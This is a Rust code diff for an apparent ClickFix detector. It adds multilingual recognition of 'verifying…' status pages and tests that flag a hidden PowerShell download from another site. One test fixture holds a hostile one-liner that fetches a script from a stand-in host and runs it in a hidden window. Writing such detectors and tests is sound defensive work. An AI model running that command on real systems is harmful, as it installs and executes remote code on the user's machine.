@@ -15,7 +15,7 @@
 
 use super::domain::{host_of, is_user_content, registrable, Site};
 use super::lexicon::{lexicon, Cat, Hit};
-use super::normalize::{is_invisible, normalize};
+use super::normalize::{is_cjk, is_invisible, normalize};
 use super::weights::{
     CLICKFIX_COMMAND, CLICKFIX_COMMAND_STRONG, CLICKFIX_HIDDEN_COMMAND, CLICKFIX_PRETEXT,
     CLICKFIX_RUN_INSTRUCTIONS,
@@ -57,9 +57,12 @@ const RUN_PLACE_PAIR: usize = 120;
 /// if any, are in a picture.
 const TERSE_PAGE: usize = 160;
 /// Check and verify stems, as the flat text has them (ASCII lower-cased, other scripts as written).
-const CHECKS: &str = "verif|vérif|prüf|weryfik|doğrula|kontrol|ověř|провер|Провер|перевір|Перевір|\
+/// (Turkish "kontrol" alone is also "control": only its "being checked" form.)
+const CHECKS: &str = "verif|vérif|prüf|weryfik|doğrula|kontrol ediliyor|ověř|провер|Провер|перевір|Перевір|\
                       επαλήθευ|Επαλήθευ|xác minh|kiểm tra|تحقق|التحقق|確認|認証|확인|인증|验证|驗證|\
                       正在验证|正在驗證|checking";
+/// Endings after a check stem that make it a status ("確認中", "확인 중입니다").
+const STATUS_ENDINGS: &str = "中|中です|しています|しております|중|중입니다|하는 중|하는 중입니다";
 /// A page saying it copies ("Copy", "Kopiuj", "コピー", "복사", "复制" …).
 const COPY: &str =
     "cop kopi kopy コピー 복사 复制 複製 копир Копир копіюв Копіюв sao chép نسخ αντιγρ Αντιγρ zkopír másol";
@@ -1524,6 +1527,24 @@ pub struct PageHits {
     cut: bool,
     /// The page's address is a help section (`support.`/`hilfe.` host, `/kb/`, `/help/` …).
     help: bool,
+    /// A page of a few words whose first line is a check's status and none of whose lines names
+    /// what it checks (see [`check_status`]).
+    status: bool,
+}
+
+/// Whether a flattened line starting with a check stem is a status: the stem ending its word or
+/// with a progressive ending ("weryfikacja…", "doğrulanıyor", "xác minh", "確認中", "확인 중입니다"),
+/// not a heading naming what it checks ("weryfikacja laptopa", "認証キーの…"). None: no stem.
+#[inline(never)]
+fn check_status(line: &str) -> Option<bool> {
+    let stem = CHECKS.split('|').find(|w| line.starts_with(w))?;
+    let rest = trim_by(line.get(stem.len()..)?, |c| {
+        matches!(c, '.' | '…' | '!' | ' ')
+    });
+    Some(
+        !rest.contains(' ') && !rest.chars().any(is_cjk)
+            || STATUS_ENDINGS.split('|').any(|e| e == rest),
+    )
 }
 
 impl PageHits {
@@ -1533,12 +1554,21 @@ impl PageHits {
         let mut base = String::new();
         let mut skel = String::new();
         let mut flat = String::new();
+        // The first line's status (None before a line), and a line naming what it checks.
+        let (mut first, mut object) = (None, false);
         for p in parts {
             if trim(p).is_empty() {
                 continue;
             }
             flat.push(' ');
             flat.push_str(&flatten(p));
+            if flat.len() <= TERSE_PAGE {
+                for l in p.split('\n').map(flatten).filter(|l| !l.is_empty()) {
+                    let s = check_status(&l);
+                    first = first.or(Some(s == Some(true)));
+                    object |= s == Some(false);
+                }
+            }
             let n = normalize(p);
             base.push_str(" \n ");
             skel.push_str(" \n ");
@@ -1573,6 +1603,7 @@ impl PageHits {
             })
             .collect();
         hits.extend(key_combos(&skel));
+        let status = flat.len() <= TERSE_PAGE && first == Some(true) && !object;
         PageHits {
             base,
             hits,
@@ -1580,6 +1611,7 @@ impl PageHits {
             site: String::new(),
             cut: false,
             help: false,
+            status,
         }
     }
 
@@ -2417,12 +2449,13 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
             // the bare word only with a bare IP or plain http, or for mshta and the like, which
             // no vendor copies.)
             || (fetch > 0 || lolbin) && CHECKS.split('|').any(|w| has(&page.flat, w))
-            // A check as the page's first word ("Weryfikacja …", "확인 중입니다", "Проверка …"),
-            // before a hidden-window download from another site, on a page that never says it
-            // copies: a gate's status, over https too (review 42 CF42-M2). A portal names what
-            // it checks ("Device verification") or has a Copy button.
+            // A check's status as the page's first line ("Weryfikacja…", "확인 중입니다",
+            // "Проверка"), before a hidden-window download from another site, on a page that
+            // never says it copies: a gate's status, over https too (review 42 CF42-M2). A
+            // portal names what it checks ("Weryfikacja laptopa", "Device verification") or
+            // has a Copy button.
             || (command.shapes.contains(&Shape::PowerShellHidden) || lolbin)
-                && CHECKS.split('|').any(|w| trim(&page.flat).starts_with(w))
+                && page.status
                 && !has_any(&page.flat, COPY));
     let unseen = !typed
         && !page.cut
@@ -2720,15 +2753,33 @@ mod tests {
         // download run from another site over https: ClickFix in any script.
         let hidden = "powershell -nop -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
         for parts in [
-            ["Weryfikacja przeglądarki", "Dalej"],
+            ["Weryfikowanie…", "Dalej"],
             ["확인 중입니다", "다음"],
+            ["인증 중...", "다음"],
             ["確認しています", "次へ"],
-            ["Проверка браузера", "Готово"],
+            ["認証中です", "次へ"],
+            ["Проверяем…", "Готово"],
             ["Doğrulanıyor", "Tamam"],
+            ["Kontrol ediliyor", "Tamam"],
             ["正在验证", "继续"],
             ["Επαλήθευση", "Συνέχεια"],
+            ["Xác minh...", "Tiếp tục"],
+            ["Ověřování", "Hotovo"],
         ] {
             assert!(on("https://gate.example/", &parts, hidden), "{parts:?}");
+        }
+        // A portal whose heading names what it checks (on any of its lines), a Turkish control
+        // panel ("kontrol" is also "control"): no status, whatever their button says.
+        for parts in [
+            &["Ověření služebního notebooku", "Spustit"][..],
+            &["Weryfikacja", "Weryfikacja telefonu pracownika", "Start"],
+            &["認証キーの配布", "開始"],
+            &["Xác minh máy trạm văn phòng", "Bắt đầu"],
+            &["Verified hardware enrolment", "Start"],
+            &["Kontrol Merkezi · yedekleme servisi", "Başlat"],
+            &["Kontrolcü", "Başlat"],
+        ] {
+            assert!(!on("https://mdm.firm.example/", parts, hidden), "{parts:?}");
         }
         // A portal naming what it checks, or with a Copy button; the page's own site; a Unix
         // installer from a release host (a tool's "Verifying…" page): not so.
